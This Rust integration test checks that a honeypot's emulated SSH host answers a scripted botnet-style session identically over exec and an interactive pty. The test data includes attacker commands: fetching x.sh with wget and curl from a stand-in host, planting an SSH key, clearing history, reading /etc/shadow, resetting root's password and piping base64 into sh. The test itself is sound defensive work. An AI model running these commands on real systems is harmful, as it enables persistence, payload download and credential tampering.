//! A scripted bot session against a native SSH decky, the way botnets and
//! miner droppers probe a host after they get in: 60+ commands, each run
//! once as `ssh host 'cmd'` (its own connection, stdout and stderr apart,
//! the exit status) and once typed into one interactive session (the real
//! OpenSSH client under a real pty made by util-linux's `script`, reading
//! the prompt back before typing the next line, and `echo $?` after each).
//!
//! Asserted: both transports give the same answers (where a real bash
//! would too: error prefixes and `w`'s own line differ by design); the
//! cross-facts hold (`uname -r` = `/proc/version`, `nproc` = cpuinfo =
//! `lscpu`, `free` = `/proc/meminfo`, `hostname` = prompt = `/etc/hostname`,
//! `uname -m` = `arch`); a session keeps its files, directory and
//! variables; unknown programs get bash's message on stderr with status
//! 127; and every answer has the real tool's format.

use std::collections::BTreeMap;
use std::net::SocketAddr;
use std::process::Stdio;
use std::time::{Duration, Instant};

use decnet::decky::Persona;
use decnet::mutator::drivers::{Change, DeployDriver};
use decnet::mutator::native::{NativeDriver, NativeOptions};
use regex::Regex;
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::{TcpListener, TcpStream};

/// Ports at default + 10000, so nothing needs root.
const OFFSET: u16 = 10_000;
const PASSWORD: &str = "b0t-pass";

/// A collector that takes the deckies' lines and drops them: this test
/// reads what the attacker sees, not the logs.
async fn discard_collector() -> SocketAddr {
    let listener = TcpListener::bind("127.0.0.1:0").await.unwrap();
    let addr = listener.local_addr().unwrap();
    tokio::spawn(async move {
        while let Ok((mut s, _)) = listener.accept().await {
            tokio::spawn(async move {
                let mut buf = [0u8; 8192];
                while matches!(s.read(&mut buf).await, Ok(n) if n > 0) {}
            });
        }
    });
    addr
}

/// A decky on `ip` whose persona runs `release`, serving ssh; root gets
/// in with [`PASSWORD`] at once.
async fn decky(name: &str, ip: &str, release: &str) -> (NativeDriver, Persona) {
    let overrides = serde_json::json!({
        "release": release,
        "auth": { "accept_after": [0, 0], "credentials": [["root", PASSWORD]] },
    });
    let persona = Persona::derive(name, None, None, 0).with_overrides(&overrides).unwrap();
    let mut o = NativeOptions::new(discard_collector().await, b"shell bot seed".to_vec());
    o.port_offset = OFFSET;
    o.limits.idle = Duration::from_secs(60);
    o.personas.insert(name.into(), overrides);
    o.addresses.insert(name.into(), ip.parse().unwrap());
    let driver = NativeDriver::live(o, None);
    let services = vec!["ssh".to_string()];
    driver.apply(&Change { project: "fleet", decky: name, services: &services, fleet: &[] }).await.unwrap();
    // The first session waits for the host keys (RSA takes seconds): wait for the banner here.
    let mut s = TcpStream::connect((ip, 22 + OFFSET)).await.unwrap();
    let mut b = [0u8; 64];
    tokio::time::timeout(Duration::from_secs(120), s.read(&mut b)).await.expect("ssh banner").unwrap();
    (driver, persona)
}

fn ssh_args(ip: &str) -> Vec<String> {
    [
        "-o",
        "StrictHostKeyChecking=no",
        "-o",
        "UserKnownHostsFile=/dev/null",
        "-o",
        "LogLevel=ERROR",
        "-o",
        "ConnectTimeout=10",
        "-o",
        "PubkeyAuthentication=no",
        "-o",
        "NumberOfPasswordPrompts=1",
        "-p",
    ]
    .iter()
    .map(|s| s.to_string())
    .chain([(22 + OFFSET).to_string(), format!("root@{ip}")])
    .collect()
}

/// One answer: what the terminal showed (stdout then stderr) and `$?`.
#[derive(Debug, Clone, PartialEq)]
struct Answer {
    stdout: String,
    stderr: String,
    status: i32,
}

impl Answer {
    fn text(&self) -> String {
        format!("{}{}", self.stdout, self.stderr)
    }
}

/// `ssh host 'cmd'`: one connection per command.
async fn exec(ip: &str, command: &str) -> Answer {
    let out = tokio::process::Command::new("sshpass")
        .args(["-p", PASSWORD, "ssh"])
        .args(ssh_args(ip))
        .arg(command)
        .stdin(Stdio::null())
        .kill_on_drop(true)
        .output();
    let out = tokio::time::timeout(Duration::from_secs(30), out).await.expect("ssh finished").expect("sshpass runs");
    Answer {
        stdout: String::from_utf8_lossy(&out.stdout).into_owned(),
        stderr: String::from_utf8_lossy(&out.stderr).into_owned(),
        status: out.status.code().unwrap_or(-1),
    }
}

/// The OpenSSH client in an interactive session on a real pseudo-terminal
/// (util-linux `script` makes it; `stty` gives it a size), typed into and
/// read from as a person at a terminal would.
struct Terminal {
    child: tokio::process::Child,
    stdin: tokio::process::ChildStdin,
    stdout: tokio::process::ChildStdout,
    screen: String,
    prompt: Regex,
    _askpass: tempfile::TempDir,
}

impl Terminal {
    async fn login(ip: &str, host: &str) -> (Terminal, String) {
        // ssh reads the password from SSH_ASKPASS when told to (OpenSSH 8.4+),
        // so nothing but ssh itself sits on the terminal.
        let dir = tempfile::tempdir().unwrap();
        let askpass = dir.path().join("askpass");
        std::fs::write(&askpass, format!("#!/bin/sh\necho '{PASSWORD}'\n")).unwrap();
        use std::os::unix::fs::PermissionsExt;
        std::fs::set_permissions(&askpass, std::fs::Permissions::from_mode(0o700)).unwrap();
        let ssh = format!("stty cols 120 rows 40; exec ssh -tt {}", ssh_args(ip).join(" "));
        let mut child = tokio::process::Command::new("script")
            .args(["-qfec", &ssh, "/dev/null"])
            .env("SSH_ASKPASS", &askpass)
            .env("SSH_ASKPASS_REQUIRE", "force")
            .env("DISPLAY", ":0")
            .env("TERM", "xterm-256color")
            .stdin(Stdio::piped())
            .stdout(Stdio::piped())
            .stderr(Stdio::piped())
            .kill_on_drop(true)
            .spawn()
            .expect("script (bsdutils) is installed by scripts/test.sh");
        let host = regex::escape(host);
        // Debian/Ubuntu `root@host:~# `, CentOS `[root@host ~]# `.
        let prompt = Regex::new(&format!(r"(?:^|\r\n)(root@{host}:[^\r\n]*# |\[root@{host} [^\]\r\n]*\]# )$")).unwrap();
        let mut t = Terminal {
            stdin: child.stdin.take().unwrap(),
            stdout: child.stdout.take().unwrap(),
            child,
            screen: String::new(),
            prompt,
            _askpass: dir,
        };
        let greeting = t.until_prompt().await;
        (t, greeting)
    }

    /// Read until the screen ends with a prompt (at most 20 s); what came
    /// before it since the last call, and the prompt.
    async fn until_prompt(&mut self) -> String {
        let deadline = Instant::now() + Duration::from_secs(20);
        let mut chunk = [0u8; 8192];
        loop {
            if let Some(m) = self.prompt.captures(&self.screen) {
                let start = m.get(0).unwrap().start();
                let prompt = m.get(1).unwrap().as_str().to_string();
                let mut before: String = self.screen[..start].to_string();
                if self.screen[start..].starts_with("\r\n") {
                    before.push_str("\r\n");
                }
                self.screen.clear();
                return before + "\u{0}" + &prompt;
            }
            let left = deadline.saturating_duration_since(Instant::now());
            match tokio::time::timeout(left, self.stdout.read(&mut chunk)).await {
                Ok(Ok(n)) if n > 0 => self.screen.push_str(&String::from_utf8_lossy(&chunk[..n])),
                other => panic!("no prompt ({other:?}); the screen shows {:?}", self.screen),
            }
        }
    }

    /// Type `line` and Enter; the output (CRLF made LF, the echoed line
    /// removed) and the prompt that followed.
    async fn type_line(&mut self, line: &str) -> (String, String) {
        self.stdin.write_all(format!("{line}\r").as_bytes()).await.unwrap();
        let got = self.until_prompt().await;
        let (text, prompt) = got.split_once('\u{0}').unwrap();
        // The editor echoes what was typed, then CR LF.
        let echoed = format!("{line}\r\n");
        let output = text.strip_prefix(&echoed).unwrap_or_else(|| panic!("{line:?} not echoed: {text:?}"));
        (output.replace("\r\n", "\n"), prompt.to_string())
    }

    /// Run `line`, then `echo $?`: the answer as the terminal showed it.
    async fn run(&mut self, line: &str) -> (Answer, String) {
        let (output, prompt) = self.type_line(line).await;
        let (status, _) = self.type_line("echo $?").await;
        let status = status.trim().parse().unwrap_or_else(|_| panic!("$? after {line:?}: {status:?}"));
        (Answer { stdout: output, stderr: String::new(), status }, prompt)
    }

    async fn logout(mut self) -> i32 {
        self.stdin.write_all(b"exit\r").await.unwrap();
        let status =
            tokio::time::timeout(Duration::from_secs(20), self.child.wait()).await.expect("ssh ended").unwrap();
        status.code().unwrap_or(-1)
    }
}

/// How the two transports' answers must relate.
#[derive(Clone, Copy, PartialEq)]
enum Same {
    /// Byte for byte, status too.
    Exactly,
    /// The same once digits are masked (times, pids, load that move).
    Shape,
    /// Not comparable by design (the session's own tty and history,
    /// bash's error prefix); each is checked on its own.
    No,
}

type Check = fn(&Persona, &Answer) -> Result<(), String>;

struct Step {
    line: &'static str,
    same: Same,
    check: Check,
}

fn ok_lines(re: &str) -> impl Fn(&Answer) -> Result<(), String> + '_ {
    move |a: &Answer| {
        let r = Regex::new(re).unwrap();
        if a.status != 0 {
            return Err(format!("status {}", a.status));
        }
        match a.stdout.lines().find(|l| !r.is_match(l)) {
            Some(l) => Err(format!("line {l:?} does not match {re}")),
            None if a.stdout.is_empty() => Err("no output".into()),
            None => Ok(()),
        }
    }
}

fn matches(re: &str, text: &str) -> Result<(), String> {
    if Regex::new(re).unwrap().is_match(text) {
        Ok(())
    } else {
        Err(format!("{text:?} does not match {re}"))
    }
}

/// The bot's script: what botnets and miner droppers send after a login.
fn script() -> Vec<Step> {
    fn s(line: &'static str, same: Same, check: Check) -> Step {
        Step { line, same, check }
    }
    use Same::*;
    vec![
        s("uname -a", Exactly, |p, a| {
            matches(
                &format!(
                    r"^Linux {} {} {} x86_64 x86_64 x86_64 GNU/Linux\n$",
                    regex::escape(&p.hostname),
                    regex::escape(&p.kernel_release),
                    regex::escape(&p.kernel_version)
                ),
                &a.stdout,
            )
        }),
        s("uname -r", Exactly, |p, a| matches(&format!("^{}\n$", regex::escape(&p.kernel_release)), &a.stdout)),
        s("uname -m", Exactly, |_, a| matches(r"^x86_64\n$", &a.stdout)),
        s("uname -s -n -r", Exactly, |p, a| {
            matches(&format!(r"^Linux {} \S+\n$", regex::escape(&p.hostname)), &a.stdout)
        }),
        s("arch", Exactly, |_, a| matches(r"^x86_64\n$", &a.stdout)),
        s("cat /proc/version", Exactly, |_, a| matches(r"^Linux version \S+ \(\S+@\S+\) \(gcc.*\) #\d+ .*\n$", &a.stdout)),
        s("cat /proc/cpuinfo | grep name | wc -l", Exactly, |_, a| matches(r"^\d+\n$", &a.stdout)),
        s("grep -c processor /proc/cpuinfo", Exactly, |_, a| matches(r"^\d+\n$", &a.stdout)),
        s("cat /proc/cpuinfo | grep name | head -n 1 | awk '{print $4,$5,$6,$7,$8,$9;}'", Exactly, |p, a| {
            // Fields 4.. of "model name\t: Intel(R) Xeon(R) …".
            let want: Vec<&str> = p.cpu_model.split_whitespace().take(6).collect();
            matches(&format!("^{}\n$", regex::escape(&want.join(" "))), &a.stdout)
        }),
        s("cat /proc/cpuinfo | grep -m1 'model name' | cut -d: -f2", Exactly, |p, a| {
            matches(&format!("^ {}\n$", regex::escape(&p.cpu_model)), &a.stdout)
        }),
        s("nproc", Exactly, |p, a| matches(&format!("^{}\n$", p.cpu_count), &a.stdout)),
        s("lscpu | grep Model", Exactly, |p, a| {
            // util-linux 2.37+ puts the name first, older ones the number.
            let name = format!(r"Model name: +{}\n", regex::escape(&p.cpu_model));
            matches(&format!(r"^({name}Model: +\d+\n|Model: +\d+\n{name})$"), &a.stdout)
        }),
        s("lscpu | grep '^CPU(s):'", Exactly, |_, a| matches(r"^CPU\(s\): +\d+\n$", &a.stdout)),
        s("getconf _NPROCESSORS_ONLN", Exactly, |_, a| matches(r"^\d+\n$", &a.stdout)),
        s("free -m | grep Mem | awk '{print $2 ,$3, $4, $5, $6, $7}'", Exactly, |_, a| {
            matches(r"^\d+ \d+ \d+ \d+ \d+ \d+\n$", &a.stdout)
        }),
        s("free -m", Exactly, |_, a| {
            matches(
                r"^ +total +used +free +shared +buff/cache +available\nMem: +(\d+ +){5}\d+\nSwap: +\d+ +\d+ +\d+\n$",
                &a.stdout,
            )
        }),
        s("free -h", Exactly, |_, a| {
            matches(r"^ +total +used .*\nMem: +(\d+(\.\d)?[KMG]i? +){5}\d+(\.\d)?[KMG]i?\nSwap: +\S+ +0B +\S+\n$", &a.stdout)
        }),
        s("free | grep Mem | awk '{print $2}'", Exactly, |p, a| matches(&format!("^{}\n$", p.memory_kib), &a.stdout)),
        s("cat /proc/meminfo | grep MemTotal", Exactly, |_, a| matches(r"^MemTotal: +\d+ kB\n$", &a.stdout)),
        s("hostname", Exactly, |p, a| matches(&format!("^{}\n$", regex::escape(&p.hostname)), &a.stdout)),
        s("cat /etc/hostname", Exactly, |p, a| matches(&format!("^{}\n$", regex::escape(&p.hostname)), &a.stdout)),
        s("cat /etc/os-release", Exactly, |p, a| {
            matches(&format!("(?m)^PRETTY_NAME=\"{}\"$", regex::escape(&p.pretty_name)), &a.stdout)?;
            matches(&format!("(?m)^ID=\"?{}\"?$", regex::escape(&p.os_id)), &a.stdout)?;
            matches(&format!("(?m)^VERSION_ID=\"{}\"$", regex::escape(&p.version_id)), &a.stdout)
        }),
        s("cat /etc/issue", Exactly, |_, a| matches(r"\S", &a.stdout)),
        s("whoami", Exactly, |_, a| matches(r"^root\n$", &a.stdout)),
        s("id", Exactly, |_, a| matches(r"^uid=0\(root\) gid=0\(root\) groups=0\(root\)\n$", &a.stdout)),
        s("w", No, |_, a| {
            matches(r"^ \d\d:\d\d:\d\d up .*, +\d users?, +load average: \d+\.\d\d, \d+\.\d\d, \d+\.\d\d\nUSER +TTY +FROM +LOGIN@ +IDLE +JCPU +PCPU +WHAT\n", &a.stdout)
        }),
        s("uptime", Shape, |_, a| {
            matches(r"^ \d\d:\d\d:\d\d up .*, +load average: \d+\.\d\d, \d+\.\d\d, \d+\.\d\d\n$", &a.stdout)
        }),
        s("which ls", Exactly, |_, a| matches(r"^/(usr/)?bin/ls\n$", &a.stdout)),
        s("ls -lh $(which ls)", Exactly, |_, a| {
            matches(r"^-rwxr-xr-x 1 root root +\d+(\.\d)?K \w{3} [ \d]\d +(\d{4}|\d\d:\d\d) /(usr/)?bin/ls\n$", &a.stdout)
        }),
        s("crontab -l", Exactly, |_, a| {
            matches(r"^no crontab for root\n$", &a.text()).and(if a.status == 1 { Ok(()) } else { Err("status".into()) })
        }),
        s("top -bn1 | head", Shape, |_, a| {
            matches(r"^top - \d\d:\d\d:\d\d up .*load average: .*\nTasks: +\d+ total, +\d+ running, +\d+ sleeping, +0 stopped, +0 zombie\n%Cpu\(s\): .*\n(MiB|KiB) Mem : .*\n(MiB|KiB) Swap: .*\n\n +PID USER +PR +NI +VIRT +RES +SHR S +%CPU +%MEM +TIME\+ COMMAND\n", &a.stdout)
        }),
        s("ps aux | head -n 3", Shape, |_, a| {
            matches(r"^USER +PID %CPU %MEM +VSZ +RSS TTY +STAT START +TIME COMMAND\nroot +1 .* /sbin/init\n", &a.stdout)
        }),
        s("ps -ef | head -n 2", Shape, |_, a| {
            matches(r"^UID +PID +PPID +C STIME TTY +TIME CMD\nroot +1 +0 +0 \S+ \? +\d\d:\d\d:\d\d /sbin/init\n$", &a.stdout)
        }),
        s("ps -ef | grep '[Mm]iner' | wc -l", Exactly, |_, a| matches(r"^0\n$", &a.stdout)),
        s("df -h", Exactly, |_, a| {
            ok_lines(r"^(Filesystem +Size +Used Avail Use% Mounted on|\S+ +(\d+(\.\d)?[KMGT]|0) +(\d+(\.\d)?[KMGT]|0) +(\d+(\.\d)?[KMGT]|0) +\d+% /\S*)$")(a)
        }),
        s("df -h | head -n 2 | awk 'FNR == 2 {print $2;}'", Exactly, |_, a| matches(r"^\d+(\.\d)?[KMGT]\n$", &a.stdout)),
        s(r#"echo -e "\x41\x42""#, Exactly, |_, a| matches(r"^AB\n$", &a.stdout)),
        s(r#"echo -e "\x61\x62\x63\x64""#, Exactly, |_, a| matches(r"^abcd\n$", &a.stdout)),
        s("echo -n test; echo", Exactly, |_, a| matches(r"^test\n$", &a.stdout)),
        s("cd /tmp || cd /var/run || cd /mnt || cd /root || cd /; pwd", Exactly, |_, a| matches(r"^/tmp\n$", &a.stdout)),
        s("chmod +x ./x", Exactly, |_, a| {
            matches(r"^chmod: cannot access '\./x': No such file or directory\n$", &a.text())
                .and(if a.status == 1 { Ok(()) } else { Err(format!("status {}", a.status)) })
        }),
        s("/bin/busybox ECCHI", No, |_, a| {
            matches(r"(/bin/busybox: No such file or directory|ECCHI: applet not found)\n$", &a.text())
                .and(if a.status == 127 { Ok(()) } else { Err(format!("status {}", a.status)) })
        }),
        s("history -c", Exactly, |_, a| matches(r"^$", &a.text())),
        s("unset HISTFILE; export HISTFILE=/dev/null; echo $HISTFILE", Exactly, |_, a| matches(r"^/dev/null\n$", &a.stdout)),
        s("echo $SHELL $HOME $USER", Exactly, |_, a| matches(r"^/bin/bash /root root\n$", &a.stdout)),
        s("echo $SSH_CLIENT | cut -d' ' -f1", Exactly, |_, a| matches(r"^127\.0\.0\.1\n$", &a.stdout)),
        s("ifconfig", Exactly, |p, a| {
            matches(&format!(r"(?m)^{}: flags=4163<UP,BROADCAST,RUNNING,MULTICAST>  mtu \d+$", p.interfaces[0].name), &a.stdout)?;
            matches(&format!(r"(?m)^ +ether {} ", p.interfaces[0].mac), &a.stdout)
        }),
        s("ip a", Exactly, |p, a| {
            matches(&format!(r"(?m)^ +link/ether {} brd ff:ff:ff:ff:ff:ff$", p.interfaces[0].mac), &a.stdout)?;
            matches(&format!(r"(?m)^ +inet {}/{} ", regex::escape(&p.interfaces[0].address), p.interfaces[0].prefix), &a.stdout)
        }),
        s("cat /sys/class/net/*/address | head -n 1", Exactly, |p, a| {
            matches(&format!("^({}|00:00:00:00:00:00)\n$", p.interfaces[0].mac), &a.stdout)
        }),
        s("ip route", Exactly, |p, a| matches(&format!(r"^default via {} dev ", regex::escape(&p.interfaces[0].gateway)), &a.stdout)),
        s("netstat -tulpn | head -n 2", Exactly, |_, a| {
            matches(r"^Active Internet connections \(only servers\)\nProto Recv-Q Send-Q Local Address +Foreign Address +State +PID/Program name\n$", &a.stdout)
        }),
        s("netstat -antp | grep ESTABLISHED", Shape, |p, a| {
            // The bot's own connection, as the decky's interface sees it.
            matches(
                &format!(
                    r"^tcp +0 +\d+ {}:\d+ +127\.0\.0\.1:\d+ +ESTABLISHED \d+/sshd: root *\n$",
                    regex::escape(&p.interfaces[0].address)
                ),
                &a.stdout,
            )
        }),
        s("cat /etc/passwd | head -n 1", Exactly, |_, a| matches(r"^root:x:0:0:root:/root:/bin/bash\n$", &a.stdout)),
        s("cat /etc/shadow | head -n 1 | cut -d: -f1", Exactly, |_, a| matches(r"^root\n$", &a.stdout)),
        s(
            "mkdir -p ~/.ssh; echo 'ssh-rsa AAAAB3NzaC1yc2E bot@x' > ~/.ssh/authorized_keys; chmod 600 ~/.ssh/authorized_keys; cat ~/.ssh/authorized_keys",
            Exactly,
            |_, a| matches(r"^ssh-rsa AAAAB3NzaC1yc2E bot@x\n$", &a.stdout),
        ),
        s("mkdir -p ~/.ssh; chattr -ia ~/.ssh; lsattr -d ~/.ssh", Exactly, |_, a| matches(r"^-{14}e-{7} /root/\.ssh\n$", &a.stdout)),
        s("wget http://198.51.100.7/x.sh -O /tmp/x.sh", Shape, |_, a| {
            matches(
                r"^--\d{4}-\d\d-\d\d \d\d:\d\d:\d\d--  http://198\.51\.100\.7/x\.sh\nConnecting to 198\.51\.100\.7:80\.\.\. failed: No route to host\.\n$",
                &a.text(),
            )
                .and(if a.status == 4 { Ok(()) } else { Err(format!("status {}", a.status)) })
        }),
        s("curl -O http://198.51.100.7/x.sh", Exactly, |_, a| {
            matches(r"curl: \(7\) Failed to connect to 198\.51\.100\.7 port 80 after \d+ ms: No route to host\n$", &a.text())
                .and(if a.status == 7 { Ok(()) } else { Err(format!("status {}", a.status)) })
        }),
        s("echo 'root:Passw0rd' | chpasswd", Exactly, |_, a| matches(r"^$", &a.text())),
        s("getconf LONG_BIT", Exactly, |_, a| matches(r"^64\n$", &a.stdout)),
        s("cat /proc/uptime | awk '{print $1}'", Shape, |_, a| matches(r"^\d+\.\d\d\n$", &a.stdout)),
        s("nvidia-smi", No, |_, a| {
            matches(r"nvidia-smi: command not found\n$", &a.text())
                .and(if a.status == 127 { Ok(()) } else { Err(format!("status {}", a.status)) })
        }),
        s("lspci | grep -i vga", Exactly, |_, a| matches(r"^00:02\.0 VGA compatible controller: ", &a.stdout)),
        s("which wget curl", Exactly, |_, a| matches(r"^/(usr/)?bin/wget\n/(usr/)?bin/curl\n$", &a.stdout)),
        s("type bash", Exactly, |_, a| matches(r"^bash is /(usr/)?bin/bash\n$", &a.stdout)),
        s("echo Y2F0IC9ldGMvaG9zdG5hbWU= | base64 -d | sh", Exactly, |p, a| {
            matches(&format!("^{}\n$", regex::escape(&p.hostname)), &a.stdout)
        }),
        s(r#"echo "$(whoami)@$(hostname)""#, Exactly, |p, a| {
            matches(&format!("^root@{}\n$", regex::escape(&p.hostname)), &a.stdout)
        }),
        s("dmesg | grep -i hypervisor", Exactly, |_, a| matches(r"^\[ +\d+\.\d{6}\] Hypervisor detected: KVM\n$", &a.stdout)),
        s("cat /proc/mounts | head -n 1", Exactly, |_, a| matches(r"^/dev/\S+ / (ext4|xfs) rw", &a.stdout)),
        s("ulimit -n", Exactly, |_, a| matches(r"^\d+\n$", &a.stdout)),
        s("kill -9 99999", No, |_, a| {
            matches(r"kill: \(99999\) - No such process\n$", &a.text())
                .and(if a.status == 1 { Ok(()) } else { Err(format!("status {}", a.status)) })
        }),
        s("sudo -l | tail -n 1", Exactly, |_, a| matches(r"^    \(ALL( : ALL)?\) ALL\n$", &a.stdout)),
        s("perl -v | head -n 2", Exactly, |_, a| matches(r"^\nThis is perl 5, version \d+, subversion \d+ \(v5\.\d+\.\d+\)", &a.stdout)),
        s("yes | head -n 2", Exactly, |_, a| matches(r"^y\ny\n$", &a.stdout)),
        s("date +%s | wc -c", Exactly, |_, a| matches(r"^11\n$", &a.stdout)),
        s("nosuchcmd --x", No, |_, a| {
            matches(r"nosuchcmd: command not found\n$", &a.text())
                .and(if a.status == 127 { Ok(()) } else { Err(format!("status {}", a.status)) })
        }),
        s("echo $((6*7)) ${UNSET:-dflt} '$HOME'", Exactly, |_, a| matches(r"^42 dflt \$HOME\n$", &a.stdout)),
    ]
}

/// Masks what moves between two runs: digits (times, pids, load), and
/// the user count (a terminal session is a logged-in user, an exec is not).
fn shape(text: &str) -> String {
    let users = Regex::new(r"\d+ users?,").unwrap().replace_all(text, "N users,").into_owned();
    Regex::new(r"\d+").unwrap().replace_all(&users, "N").into_owned()
}

/// Lines whose answer is an error: over exec it is on stderr alone.
const ERRORS_ONLY: &[&str] = &[
    "crontab -l",
    "chmod +x ./x",
    "/bin/busybox ECCHI",
    "wget http://198.51.100.7/x.sh -O /tmp/x.sh",
    "curl -O http://198.51.100.7/x.sh",
    "nvidia-smi",
    "kill -9 99999",
    "nosuchcmd --x",
];

/// The session-state lines typed one by one in the pty; in an exec
/// session they only work as one line.
const STATEFUL: &[&str] = &[
    "mkdir /tmp/.bot",
    "cd /tmp/.bot",
    "echo hello > f",
    "echo world >> f",
    "export BOT_ID=42",
    "cat f",
    "pwd",
    "echo $BOT_ID",
    "ls -la",
];

async fn bot_session(release: &str, decky_name: &str, ip: &str) {
    let (driver, persona) = decky(decky_name, ip, release).await;
    let steps = script();
    assert!(steps.len() + STATEFUL.len() >= 60, "a bot session of 60+ commands: {}", steps.len() + STATEFUL.len());

    // Transport 1: each command as `ssh host 'cmd'`.
    let mut over_exec = Vec::new();
    for step in &steps {
        over_exec.push(exec(ip, step.line).await);
    }

    // Transport 2: one interactive session on a real terminal.
    let (mut term, greeting) = Terminal::login(ip, &persona.hostname).await;
    let first_prompt = greeting.split_once('\u{0}').unwrap().1.to_string();
    let mut over_pty = Vec::new();
    let mut prompts = Vec::new();
    for step in &steps {
        let (answer, prompt) = term.run(step.line).await;
        over_pty.push(answer);
        prompts.push(prompt);
    }
    let mut stateful = BTreeMap::new();
    let mut stateful_prompts = Vec::new();
    for line in STATEFUL {
        let (answer, prompt) = term.run(line).await;
        stateful.insert(*line, answer);
        stateful_prompts.push(prompt);
    }
    let (history, _) = term.run("history | tail -n 3").await;
    assert_eq!(term.logout().await, 0, "exit ends the session and ssh with it");

    let mut failures = Vec::new();
    for (i, step) in steps.iter().enumerate() {
        let (e, t) = (&over_exec[i], &over_pty[i]);
        // Each answer looks like the real tool's, on both transports.
        for (how, answer) in [("exec", e), ("pty", t)] {
            if let Err(why) = (step.check)(&persona, answer) {
                failures.push(format!("{release} {how} `{}`: {why}\n   got {answer:?}", step.line));
            }
        }
        if ERRORS_ONLY.contains(&step.line) && (!e.stdout.is_empty() || e.stderr.is_empty() || e.status == 0) {
            failures
                .push(format!("{release} exec `{}`: an error goes to stderr with a failure status: {e:?}", step.line));
        }
        let agree = match step.same {
            Same::Exactly => e.text() == t.stdout && e.status == t.status,
            Same::Shape => shape(&e.text()) == shape(&t.stdout) && e.status == t.status,
            Same::No => e.status == t.status,
        };
        if !agree {
            failures.push(format!("{release} `{}`: exec {e:?} vs pty {t:?}", step.line));
        }
    }
    assert!(failures.is_empty(), "{} wrong answers:\n{}", failures.len(), failures.join("\n"));

    // Errors of unknown programs: stderr only, status 127, bash's words
    // for each way bash runs (`bash -c` for exec, a login shell on a pty).
    let unknown = &over_exec[steps.iter().position(|s| s.line == "nvidia-smi").unwrap()];
    assert!(unknown.stdout.is_empty(), "{unknown:?}");
    let bash_5_1 = persona.packages.iter().any(|(n, v)| n == "bash" && v.starts_with("5.1"));
    let exec_words = if bash_5_1 {
        "bash: line 1: nvidia-smi: command not found\n"
    } else {
        "bash: nvidia-smi: command not found\n"
    };
    assert_eq!(unknown.stderr, exec_words);
    let typed = &over_pty[steps.iter().position(|s| s.line == "nvidia-smi").unwrap()];
    assert_eq!(typed.stdout, "-bash: nvidia-smi: command not found\n", "a login shell's prefix");

    // Cross-facts, read from the answers themselves.
    let answer = |line: &str| over_exec[steps.iter().position(|s| s.line == line).unwrap()].stdout.clone();
    let proc_version = answer("cat /proc/version");
    assert_eq!(proc_version.split_whitespace().nth(2).unwrap(), answer("uname -r").trim(), "uname -r = /proc/version");
    let nproc = answer("nproc");
    assert_eq!(answer("grep -c processor /proc/cpuinfo"), nproc, "nproc = cpuinfo's processors");
    assert_eq!(answer("cat /proc/cpuinfo | grep name | wc -l"), nproc);
    assert_eq!(answer("lscpu | grep '^CPU(s):'").split_whitespace().nth(1).unwrap(), nproc.trim(), "= lscpu's CPU(s)");
    assert_eq!(answer("getconf _NPROCESSORS_ONLN"), nproc);
    let mem_total = answer("cat /proc/meminfo | grep MemTotal");
    let mem_kib: u64 = mem_total.split_whitespace().nth(1).unwrap().parse().unwrap();
    assert_eq!(answer("free | grep Mem | awk '{print $2}'").trim(), mem_kib.to_string(), "free = /proc/meminfo");
    let free_m = answer("free -m");
    assert_eq!(free_m.lines().nth(1).unwrap().split_whitespace().nth(1).unwrap(), (mem_kib / 1024).to_string());
    let host = answer("hostname");
    assert_eq!(answer("cat /etc/hostname"), host, "hostname = /etc/hostname");
    assert_eq!(answer("uname -s -n -r").split_whitespace().nth(1).unwrap(), host.trim(), "= uname -n");
    assert!(first_prompt.contains(&format!("root@{}", host.trim())), "= the prompt: {first_prompt:?}");
    assert!(prompts.iter().all(|p| p.contains(&format!("root@{}", host.trim()))), "every prompt: {prompts:?}");
    assert_eq!(answer("uname -m"), answer("arch"), "uname -m = arch");
    assert!(answer("ip a").contains(answer("cat /sys/class/net/*/address | head -n 1").trim()));
    // The greeting is the persona's MOTD on a terminal.
    let motd_first = persona.motd.lines().next().unwrap_or_default();
    assert!(greeting.contains(motd_first), "{greeting:?}");
    // `w` on a terminal lists this session from the client's address;
    // `ssh host w` has no terminal and no utmp entry.
    let w_pty = &over_pty[steps.iter().position(|s| s.line == "w").unwrap()].stdout;
    assert!(Regex::new(r"(?m)^root +pts/0 +127\.0\.0\.1 ").unwrap().is_match(w_pty), "{w_pty}");
    assert!(w_pty.lines().next().unwrap().contains(" 1 user,"), "{w_pty}");
    let w_exec = answer("w");
    assert_eq!(w_exec.lines().count(), 2, "no session line without a tty: {w_exec}");

    // State persists within the interactive session.
    assert_eq!(stateful["mkdir /tmp/.bot"].status, 0);
    assert_eq!(stateful["cat f"].stdout, "hello\nworld\n");
    assert_eq!(stateful["pwd"].stdout, "/tmp/.bot\n");
    assert_eq!(stateful["echo $BOT_ID"].stdout, "42\n");
    let ls = &stateful["ls -la"].stdout;
    assert!(
        Regex::new(r"(?m)^-rw-r--r-- 1 root root +12 \w{3} [ \d]\d \d\d:\d\d f$").unwrap().is_match(ls),
        "the file, 12 bytes, made just now: {ls}"
    );
    assert!(stateful_prompts[1].contains(".bot"), "the prompt follows cd: {stateful_prompts:?}");
    assert_eq!(stateful["cd /tmp/.bot"].stdout, "");
    assert!(
        Regex::new(r"^ +\d+  ls -la\n +\d+  echo \$\?\n +\d+  history \| tail -n 3\n$")
            .unwrap()
            .is_match(&history.stdout),
        "history numbers what was typed: {:?}",
        history.stdout
    );
    // The same work as one exec line: a new session starts from the image.
    let one_line = exec(ip, &STATEFUL.join(" && ")).await;
    assert_eq!(one_line.status, 0, "{one_line:?}");
    assert!(one_line.stdout.starts_with("hello\nworld\n/tmp/.bot\n42\ntotal "), "{one_line:?}");
    let fresh = exec(ip, "cat /tmp/.bot/f").await;
    assert_eq!(
        (fresh.status, fresh.stderr.as_str()),
        (1, "cat: /tmp/.bot/f: No such file or directory\n"),
        "sessions share nothing"
    );
    driver.shutdown().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_bot_session_gets_the_same_persona_answers_over_exec_and_a_pty_on_debian_12() {
    bot_session("debian-12", "bot-deb", "127.1.140.1").await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_bot_session_gets_the_same_persona_answers_over_exec_and_a_pty_on_centos_7() {
    bot_session("centos-7", "bot-cent", "127.1.141.1").await;
}
